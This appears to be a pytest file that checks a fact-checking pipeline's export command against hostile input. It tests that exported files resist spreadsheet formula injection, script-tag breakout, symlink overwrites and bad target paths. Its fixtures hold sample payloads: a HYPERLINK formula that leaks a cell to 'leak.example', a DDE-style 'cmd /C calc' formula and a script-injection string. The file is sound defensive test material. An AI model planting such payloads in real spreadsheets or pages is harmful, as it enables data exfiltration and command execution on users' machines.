"""``factcheck export`` on the compared sample newsroom, with values a hostile page could carry: the
files must be safe to open (spreadsheet, web page), be written only where asked, and be read from
the read snapshot, so an export never holds up a load."""

from __future__ import annotations

import csv
import json
import shutil
import subprocess
import sys
from pathlib import Path

import duckdb
import pytest

from pipeline import cli, runner, store
from pipeline.settings import Settings

HYPERLINK = '=HYPERLINK("http://leak.example/leak?"&A1, "more")'
SUM = "@SUM(1+1)*cmd|' /C calc'!A0"
PLUS = "+the spill was contained"
SCRIPT = "</script><script>alert(1)</script><!-- the end"

# Holds the live file open for writing, as a load batch does, until a line arrives on stdin.
WRITER = """
import sys
from pathlib import Path
from pipeline import store
con = store.connect(Path(sys.argv[1]))
print("holding", flush=True)
sys.stdin.readline()
con.close()
"""


@pytest.fixture(scope="module")
def hostile_db(loaded_settings: Settings, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The compared sample newsroom with hostile text in titles, claims and a list, and its snapshot."""
    db = tmp_path_factory.mktemp("export") / "f.duckdb"
    shutil.copy(loaded_settings.database, db)
    runner.compare(Settings(data_dir=db.parent, db_path=db))
    con = store.connect(db)
    try:
        rows = con.execute(
            """SELECT claim_id, article_id FROM claims_by_source WHERE cluster_id IS NOT NULL
               ORDER BY claim_id LIMIT 3"""
        ).fetchall()
        (c1, a1), (c2, _), (c3, _) = rows
        con.execute("UPDATE articles SET title = ? WHERE article_id = ?", [HYPERLINK, a1])
        con.execute("UPDATE claims SET content = ? WHERE claim_id = ?", [PLUS, c2])
        con.execute("UPDATE claims SET content = ? WHERE claim_id = ?", [SUM + " " + SCRIPT, c3])
        con.execute("UPDATE claims SET speaker = ? WHERE claim_id = ?", ["-Greta Halvorsen", c1])
        store.publish_snapshot(con, db)
    finally:
        con.close()
    return db


@pytest.fixture
def db(hostile_db: Path, tmp_path: Path) -> Path:
    """A copy of the hostile database and its read snapshot, for one test."""
    copy = tmp_path / "db" / "f.duckdb"
    copy.parent.mkdir()
    shutil.copy(hostile_db, copy)
    shutil.copy(store.snapshot_path(hostile_db), store.snapshot_path(copy))
    return copy


def _csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as fh:
        return list(csv.DictReader(fh))


def test_csv_cells_never_start_a_formula_and_lists_are_json(db: Path, tmp_path: Path) -> None:
    # item 3 of issue 21: titles and claims starting with = @ + went into the CSV verbatim, and list
    # columns were written as [a, b] beside ['a'], with NULL inside a list
    out = tmp_path / "out"
    assert cli.main(["export", "--db", str(db), "--to", str(out)]) == 0
    con = duckdb.connect()
    cells: list[str] = []
    lists: list[list[object]] = []
    for csv_file in sorted(out.glob("*.csv")):
        parquet = csv_file.with_suffix(".parquet")
        described = con.execute(f"SELECT column_name, column_type FROM (DESCRIBE SELECT * FROM '{parquet}')")
        types = dict(described.fetchall())
        rows = _csv(csv_file)
        assert len(rows) == con.execute(f"SELECT count(*) FROM '{parquet}'").fetchone()[0]  # type: ignore[index]
        for row in rows:
            for column, value in row.items():
                cells.append(value)
                if types[column] == "VARCHAR":  # a number such as -1 is no formula
                    assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (csv_file.name, column, value)
                if types[column].endswith("]") and value:
                    lists.append(json.loads(value))
                    assert isinstance(lists[-1], list) and "NULL" not in value, (csv_file.name, column, value)
    con.close()
    assert lists and any(None in x for x in lists)  # a missing element is JSON null, not the text NULL
    assert "'" + HYPERLINK in cells and "'" + PLUS in cells and "'-Greta Halvorsen" in cells
    assert any(c.startswith("'" + SUM) for c in cells)
    outlets = [json.loads(r["outlets"]) for r in _csv(out / "speaker_outlets.csv")]
    assert ["Northside Observer (sample)"] in outlets
    parquet_titles = duckdb.sql(f"SELECT title FROM '{out / 'claims_by_source.parquet'}'").fetchall()
    assert (HYPERLINK,) in parquet_titles  # Parquet keeps the value as stored


def test_claimreview_jsonld_can_sit_in_a_script_element(db: Path, tmp_path: Path) -> None:
    # item 3: a claim's </script> went raw into claimreview.jsonld
    out = tmp_path / "out"
    assert cli.main(["export", "--db", str(db), "--to", str(out)]) == 0
    text = (out / "claimreview.jsonld").read_text(encoding="utf-8")
    assert "</" not in text and "<!--" not in text
    graph = json.loads(text)["@graph"]
    texts = {a["text"] for r in graph for a in r["itemReviewed"]["appearance"]}
    assert SUM + " " + SCRIPT in texts  # a JSON reader gets the text back unchanged
    one = next(r for r in graph if any(a["text"] == SUM + " " + SCRIPT for a in r["itemReviewed"]["appearance"]))
    assert cli.main(["export", "--db", str(db), "--to", str(out), "--cluster", one["identifier"]]) == 0
    single = (out / f"claimreview-{one['identifier']}.jsonld").read_text(encoding="utf-8")
    assert "</" not in single and json.loads(single)["identifier"] == one["identifier"]


def test_export_replaces_planted_symlinks_and_never_writes_through_them(db: Path, tmp_path: Path) -> None:
    # item 4: claimreview.partial (and every COPY target) was followed, overwriting the file it pointed to
    out = tmp_path / "out"
    out.mkdir()
    victims = {}
    for name in ("claimreview.partial", "claimreview.jsonld", "cluster_coverage.csv", "claims_by_source.parquet"):
        victim = tmp_path / f"victim-{name}"
        victim.write_text("keep me\n", encoding="utf-8")
        (out / name).symlink_to(victim)
        victims[victim] = name
    (out / "notes.txt").write_text("mine\n", encoding="utf-8")
    assert cli.main(["export", "--db", str(db), "--to", str(out)]) == 0
    for victim, name in victims.items():
        assert victim.read_text(encoding="utf-8") == "keep me\n", name
    for name in ("claimreview.jsonld", "cluster_coverage.csv", "claims_by_source.parquet"):
        assert not (out / name).is_symlink() and (out / name).stat().st_size > 100, name
    assert (out / "notes.txt").read_text(encoding="utf-8") == "mine\n"  # the folder's other files stay
    assert [p.name for p in tmp_path.iterdir() if ".partial-" in p.name] == []


def test_export_refuses_a_target_that_is_not_a_folder_and_creates_nothing(db: Path, tmp_path: Path) -> None:
    # item 4: --to /etc/passwd (here a file of the test's own) ended in a traceback
    afile = tmp_path / "passwd"
    afile.write_text("root:x:0:0\n", encoding="utf-8")
    for target, says in ((afile, "is a file, not a folder"), (afile / "sub", "cannot create the export folder")):
        proc = subprocess.run([sys.executable, "-m", "pipeline.cli", "export", "--db", str(db), "--to", str(target)],
                              capture_output=True, text=True, timeout=600)  # fmt: skip
        assert proc.returncode == 2 and "Traceback" not in proc.stderr, proc.stderr
        assert says in proc.stderr and str(target) in proc.stderr
    assert afile.read_text(encoding="utf-8") == "root:x:0:0\n"
    assert cli.main(["export", "--db", str(db), "--to", str(tmp_path / "new"), "--cluster", "cl-nope"]) == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["db", "passwd"]


def test_export_reads_the_snapshot_while_a_writer_holds_the_live_file(db: Path, tmp_path: Path) -> None:
    # item 1: the export held the live file for its whole run (a load failed with "Could not set
    # lock"), and could not start while a load held it
    writer = subprocess.Popen([sys.executable, "-c", WRITER, str(db)], stdin=subprocess.PIPE, stdout=subprocess.PIPE,
                              text=True)  # fmt: skip
    try:
        assert writer.stdout is not None and writer.stdout.readline().strip() == "holding"
        out = tmp_path / "out"
        assert cli.main(["export", "--db", str(db), "--to", str(out)]) == 0
        assert len(_csv(out / "claims_by_source.csv")) > 0
    finally:
        writer.communicate("\n", timeout=60)
    assert writer.returncode == 0
